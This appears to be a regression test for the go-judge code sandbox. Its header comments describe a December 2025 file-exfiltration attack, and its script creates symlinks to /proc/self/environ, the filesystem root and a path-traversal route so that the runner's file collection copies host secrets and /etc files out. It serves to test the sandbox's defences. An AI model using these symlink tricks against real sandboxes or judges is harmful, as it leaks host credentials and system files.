# attack = "go-judge, December 2025: has files of the host's copied out through links to files and directories"
# threats = [36]
# outcome = "OK"
# files = ["honest"]
# collect = ["honest", "file", "directory", "directory/environ", "directory/*", "root/etc/*", "cwd/environ", "deep/**"]
import os

from attack import bait

with open("honest", "w") as file:
    file.write("honest")
os.mkdir("deep")
for name, target in {
    "file": "/proc/self/environ",
    "directory": "/proc/self",
    "root": "/",
    "cwd": "../../../../../proc/self",
    "deep/magic": "/proc/self/root/proc/self/environ",
    "deep/bait": bait("FILE"),
    "deep/loop": "..",
}.items():
    os.symlink(target, name)
